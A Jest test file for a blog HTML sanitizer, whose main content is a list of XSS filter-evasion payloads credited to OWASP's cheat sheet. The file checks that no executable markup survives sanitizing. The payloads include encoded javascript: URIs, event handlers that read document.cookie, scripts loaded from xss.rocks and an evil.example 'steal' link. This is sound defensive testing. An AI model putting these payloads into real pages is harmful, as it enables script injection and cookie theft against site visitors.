import { parseDocument } from 'htmlparser2';
import {
  BLOG_ALLOWED_ATTRIBUTES,
  BLOG_ALLOWED_TAGS,
  blogBodyForDisplay,
  sanitizeBlogHtml,
} from './blog-html';

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus the
// SVG, data-attribute and mutation cases the allow-list of product rule Blog allow-list has to hold against.
const XSS_VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click Me</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click Me</a>`,
  `<a href="jav\tascript:alert('XSS');">Embedded tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">Encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">Newline</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">Carriage return</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">Spaces and meta chars</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="vbscript:msgbox('XSS')">vb</a>`,
  `<a href="//evil.example/steal">protocol relative</a>`,
  `<p data-bind="alert(1)" data-x="1" style="color:red" id="x" onclick="alert(1)">attributes</p>`,
  `<form action="javascript:alert(1)"><button>Go</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<a href="  JAVASCRIPT:alert(1)">upper with spaces</a>`,
  `<a href="java&#0000115;cript:alert(1)">padded entity</a>`,
  `<a href="http://example.org" target="_blank">new tab</a>`,
];

interface Node {
  type: string;
  name?: string;
  attribs?: Record<string, string>;
  children?: Node[];
}

function* elements(node: Node): Generator<Node> {
  for (const child of node.children ?? []) {
    if (child.type === 'tag' || child.type === 'script' || child.type === 'style') yield child;
    yield* elements(child);
  }
}

/** What a browser would decode an attribute to, with the characters it ignores in a scheme dropped. */
function decodedScheme(value: string): string {
  const decoded = value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)));
  // eslint-disable-next-line no-control-regex
  return decoded.replace(/[\u0000-\u0020]/g, '').toLowerCase();
}

function problemsIn(html: string): string[] {
  const problems: string[] = [];
  for (const element of elements(parseDocument(html) as unknown as Node)) {
    if (!element.name || !BLOG_ALLOWED_TAGS.includes(element.name))
      problems.push(`tag <${element.name}>`);
    for (const [name, value] of Object.entries(element.attribs ?? {})) {
      if (!BLOG_ALLOWED_ATTRIBUTES.includes(name)) problems.push(`attribute ${name}`);
      if (name === 'href' && !/^(https?:|mailto:|\/(?!\/)|#|[^:]*$)/.test(decodedScheme(value)))
        problems.push(`href ${value}`);
    }
  }
  return problems;
}

describe('blog body sanitizer', () => {
  it(`leaves nothing executable in any of ${XSS_VECTORS.length} cheat-sheet vectors`, () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(30);
    // The checker itself sees what it looks for.
    expect(
      problemsIn(
        '<img src=x onerror=alert(1)><a href="jav&#x09;ascript:alert(1)" data-x="1">x</a>',
      ),
    ).toEqual([
      'tag <img>',
      'attribute src',
      'attribute onerror',
      'href jav\tascript:alert(1)',
      'attribute data-x',
    ]);
    for (const vector of XSS_VECTORS) {
      const clean = sanitizeBlogHtml(vector);
      expect({ vector, problems: problemsIn(clean) }).toEqual({ vector, problems: [] });
      // Text such as 'javascript:' may stay as words on the page; never as markup or an address.
      expect(clean).not.toMatch(
        /<script|<svg|<img|<iframe|<object|<embed|<style|<math|<meta|<link|<form|<input|<body|\son\w+\s*=|=\s*["']?\s*(javascript|vbscript|data):/i,
      );
      // Sanitizing is stable: what is stored is what is shown.
      expect(sanitizeBlogHtml(clean)).toBe(clean);
      const shown = blogBodyForDisplay(clean);
      expect(problemsIn(shown)).toEqual([]);
    }
  });

  it('keeps the allowed formatting with href, target, rel and class', () => {
    const html = `<h2 class="lead">Markets</h2><p>Use <strong>EBT</strong> and <em>save</em>, <b>b</b> <i>i</i> <code>x</code></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote><pre>a\nb</pre><hr><p>line<br>break <a href="https://www.fns.usda.gov/snap" target="_blank">USDA</a> <a href="/snap-tips">tips</a> <a href="mailto:support@snapfinder.local">mail</a></p>`;
    expect(sanitizeBlogHtml(html)).toBe(
      `<h2 class="lead">Markets</h2><p>Use <strong>EBT</strong> and <em>save</em>, <b>b</b> <i>i</i> <code>x</code></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote><pre>a\nb</pre><hr /><p>line<br />break <a href="https://www.fns.usda.gov/snap" target="_blank" rel="noopener noreferrer">USDA</a> <a href="/snap-tips">tips</a> <a href="mailto:support@snapfinder.local">mail</a></p>`,
    );
  });

  it('drops script and style bodies instead of showing them as text, keeps the text of other unknown tags', () => {
    expect(
      sanitizeBlogHtml(
        '<p>Hi<script>alert(1)</script></p><style>p{}</style><div><span>kept text</span></div>',
      ),
    ).toBe('<p>Hi</p>kept text');
  });

  it('shows a line break typed in text as a break, but not the breaks between blocks', () => {
    expect(blogBodyForDisplay('First line\nSecond line')).toBe('First line<br>\nSecond line');
    expect(blogBodyForDisplay('<p>One</p>\n<p>Two</p>')).toBe('<p>One</p>\n<p>Two</p>');
    expect(blogBodyForDisplay('<ul>\n<li>a</li>\n</ul>')).toBe('<ul>\n<li>a</li>\n</ul>');
    expect(blogBodyForDisplay('<pre>code\nmore</pre>')).toBe('<pre>code\nmore</pre>');
  });
});
